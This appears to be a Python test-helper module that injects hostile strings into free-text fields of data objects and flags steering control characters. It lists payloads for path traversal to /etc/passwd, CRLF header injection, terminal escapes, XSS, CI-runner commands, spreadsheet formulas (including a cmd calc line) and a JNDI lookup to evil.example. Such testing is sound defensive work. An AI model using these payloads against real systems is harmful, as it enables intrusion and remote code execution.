"""Text that would steer a terminal, a page, a workbook or a runner, put wherever a value of the world can stand."""

import unicodedata
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

POISONS = {
    "up": "../../etc/passwd",
    "encoded": "%2f..%2F%00%0d%0aX-Evil:%201",
    "dots": "..",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31mred",
    "controls": "a\x00b\x08c\x7fd\x85e\rf\ng\th",
    "bidi": "\u202efdp.exe\u2066\u200f\u061c",
    "invisible": "a\u200b\u2060\ufeff\U000e0041b\u2028c\u2029d",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "closing": "\"'></title></style></script></svg>]]>--><b onclick=alert(1)>",
    "markdown": "](javascript:alert(1)) ![x](https://evil.example/x.png) | x | `x` <b>\n# heading\n---\n",
    "runner": "x\n::error file=evil::owned\n::set-output name=a::b\n##[error]owned",
    "formula": '=HYPERLINK("https://evil.example")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "long": "A" * 10_000,
    "wide": "\u9ad8" * 300 + "e\u0301" * 300,
    "template": "{{ 7 * 7 }}{% for x in y %}${jndi:ldap://evil.example}",
}

FREE = frozenset(
    [
        "alid",
        "title",
        "content_id",
        "words",
        "why",
        "reason",
        "note",
        "notes",
        "message",
        "hint",
        "subject",
        "author",
        "commit",
        "path",
        "blob",
        "file",
        "text",
        "licensor",
        "environment",
        "channel",
        "contract",
        "run",
        "summary",
        "advice",
        "sentence",
        "references",
        "name",
        "id",
        "season",
        "season_title",
        "said",
        "reference",
        "offer",
        "instructions",
        "other_terms",
        "license_rights",
        "members",
        "parent",
        "label",
        "pull_request",
        "body",
        "because",
    ]
)
"""Attributes that hold what somebody wrote, wherever they stand."""

_STEERING = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})
_HARMLESS = frozenset("\n\u200c\u200d")


def poisoned(value: Any, poison: str, *, free: bool = False) -> Any:
    """The same value with every free text replaced."""
    if isinstance(value, tuple | list):
        return type(value)(poisoned(item, poison, free=free) for item in value)
    if isinstance(value, Mapping):
        return {key: poisoned(item, poison, free=free) for key, item in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        found = {one.name: getattr(value, one.name) for one in fields(value) if one.init}
        changed = {name: poisoned(item, poison, free=name in FREE) for name, item in found.items()}
        return replace(value, **{name: item for name, item in changed.items() if item is not found[name]})
    return poison if free and type(value) is str else value


def steering(shown: str, harmless: str = "") -> list[str]:
    """Characters of a screen that move, hide or turn what stands beside them."""
    allowed = _HARMLESS | set(harmless)
    return sorted(
        {
            f"U+{ord(one):04X}"
            for one in shown
            if unicodedata.category(one) in _STEERING and one not in allowed
        }
    )
